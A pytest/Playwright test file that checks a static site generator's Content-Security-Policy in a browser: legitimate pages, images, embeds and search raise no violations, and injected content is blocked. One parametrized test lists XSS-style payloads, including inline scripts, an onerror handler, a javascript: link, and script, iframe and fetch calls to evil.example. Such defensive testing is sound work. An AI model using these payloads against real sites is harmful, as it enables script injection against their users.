"""The Content-Security-Policy in a real browser: it stops nothing of ours, and what somebody slips in."""

from __future__ import annotations

import re
from collections.abc import Callable
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, Route

from tests.browser.conftest import Served
from tests.conftest import MakeSite
from tests.projects import article

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(120)]

APPEND = "document.body.insertAdjacentHTML('beforeend', `{html}`)"
LISTEN = """
window.stopped = [];
addEventListener("securitypolicyviolation", (event) => {
  stopped.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
});
"""
PICTURE = (
    "<svg xmlns='http://www.w3.org/2000/svg' width='40' height='30'><style>rect{fill:red}</style>"
    "<rect width='40' height='30'/></svg>"
)
EVERYTHING = """
## 数式と図

$a^2 + b^2$ と $$\\begin{aligned} a &= b \\\\ c &= d \\end{aligned}$$

```mermaid
graph TD
  A[始め] --> B{分岐}
```

```diff js:file.js
+ const a = 1;
```

| 左 | 中 | 右 |
|:---|:--:|---:|
| a | b | c |

:::details 開く
:::message alert
警告
:::
:::

- [ ] する
- [x] した

![絵](/images/picture.svg =250x)
![よその絵](https://pictures.example/a.svg)
![よその絵](http://pictures.example/b.svg)

@[youtube](abcdefghijk)

@[jsfiddle](http://jsfiddle.net/a/b/)

https://example.com/page

本文[^1]

[^1]: 脚注
"""


@pytest.fixture
def output(make_site: MakeSite) -> Path:
    made = make_site(
        {
            "articles/everything.md": article("すべて", body=EVERYTHING),
            "articles/another-one.md": article(
                "もう一つ", body="# 見出し\n\n```python\nprint(1)\n```\n", aliases="[/old/]"
            ),
            "images/picture.svg": PICTURE,
        }
    )
    made.build(base_url="https://example.org/repo")
    return made.root / "_site"


@pytest.fixture
def site(serve: Callable[[Path], Served], output: Path) -> Served:
    return serve(output)


def listening(chromium: Browser) -> Page:
    page = chromium.new_context(permissions=["clipboard-read", "clipboard-write"]).new_page()
    page.add_init_script(LISTEN)
    elsewhere = re.compile("^(?!http://localhost)")
    page.route(elsewhere, lambda route: route.fulfill(body=PICTURE, content_type="image/svg+xml"))
    return page


def test_nothing_of_ours_is_stopped_on_any_page(chromium: Browser, site: Served, output: Path) -> None:
    page = listening(chromium)
    files = sorted(output.rglob("*.html"))
    assert len(files) > 8
    for file in files:
        page.goto(site.url(file.relative_to(output).as_posix().removesuffix("index.html")), wait_until="networkidle")
        assert page.evaluate("stopped") == [], page.url


def test_pictures_copying_and_players_work(chromium: Browser, site: Served) -> None:
    page = listening(chromium)
    page.goto(site.url("/articles/everything/"), wait_until="networkidle")
    page.evaluate("document.querySelectorAll('img').forEach(img => { img.loading = 'eager'; })")
    page.wait_for_function("[...document.images].every(img => img.complete)")
    assert page.locator("img").count() >= 3
    assert page.evaluate("[...document.images].filter(img => !img.naturalWidth).map(img => img.outerHTML)") == []
    page.get_by_role("button", name="コピー").first.click()
    for _ in range(2):
        page.get_by_role("button", name="ここで見る").first.click()
        page.wait_for_timeout(200)
    assert [frame.url for frame in page.frames[1:]] == [
        "https://www.youtube-nocookie.com/embed/abcdefghijk",
        "https://jsfiddle.net/a/b/embedded/",
    ]
    assert page.evaluate("stopped") == []


def test_searching_works(chromium: Browser, site: Served) -> None:
    page = listening(chromium)
    page.goto(site.url("/articles/another-one/"))
    page.keyboard.press("/")
    page.get_by_role("searchbox").fill("脚注")
    page.locator(".search-title a").first.wait_for()
    page.goto(site.url("/search/?q=見出し"))
    page.locator(".search-title a").first.wait_for()
    assert page.evaluate("stopped") == []


@pytest.mark.parametrize(
    "slipped_in",
    [
        "const one = document.createElement('script'); one.text = 'window.run = 1'; document.body.append(one)",
        "const one = document.createElement('script'); one.src = '//evil.example/'; document.body.append(one)",
        APPEND.format(html='<img src=x onerror="window.run = 1">'),
        APPEND.format(html='<a id=evil href="javascript:window.run = 1">x</a>') + "; evil.click()",
        APPEND.format(html='<iframe src="https://evil.example/"></iframe>'),
        APPEND.format(html='<b style="position: fixed">x</b>'),
        "fetch('https://evil.example/')",
    ],
)
def test_what_is_slipped_in_is_stopped(chromium: Browser, site: Served, slipped_in: str) -> None:
    page = listening(chromium)
    page.goto(site.url("/articles/everything/"), wait_until="networkidle")
    page.evaluate(f"() => {{ try {{ {slipped_in} }} catch {{}} }}")
    page.wait_for_function("stopped.length > 0")
    assert page.evaluate("window.run") is None


def test_an_inline_script_of_a_template_is_stopped_unless_it_is_allowed(
    chromium: Browser, serve: Callable[[Path], Served], make_site: MakeSite
) -> None:
    script = "<script>window.run = 1</script>"
    made = make_site(
        {
            "articles/one-article.md": article(),
            "templates/article.html": f'{{% extends "theme/article.html" %}}{{% block head %}}{script}{{% endblock %}}',
        }
    )
    (told,) = (one for one in made.build().problems if one.rule == "policy")
    page = listening(chromium)
    page.goto(serve(made.root / "_site").url("/articles/one-article/"))
    assert page.evaluate("window.run") is None
    assert len(page.evaluate("stopped")) == 1

    cure = told.hint.partition("sitegen.toml: ")[2]
    made.write("sitegen.toml", cure)
    assert not [one for one in made.build().problems if one.rule in ("policy", "settings")]
    page.goto(serve(made.root / "_site").url("/articles/one-article/"))
    assert page.evaluate("window.run") == 1
    assert page.evaluate("stopped") == []


def test_the_policy_that_a_host_sends_stops_no_picture_and_no_page(
    chromium: Browser, site: Served, output: Path
) -> None:
    policy = (output / "_headers").read_text("utf-8").partition("Content-Security-Policy: ")[2].partition("\n")[0]
    page = listening(chromium)

    def answer(route: Route) -> None:
        got = route.fetch()
        route.fulfill(response=got, headers=got.headers | {"content-security-policy": policy})

    page.route(f"{site.origin}/**", answer)
    for path in ["/articles/everything/", "/images/picture.svg"]:
        page.goto(site.url(path), wait_until="networkidle")
        assert page.evaluate("stopped") == []
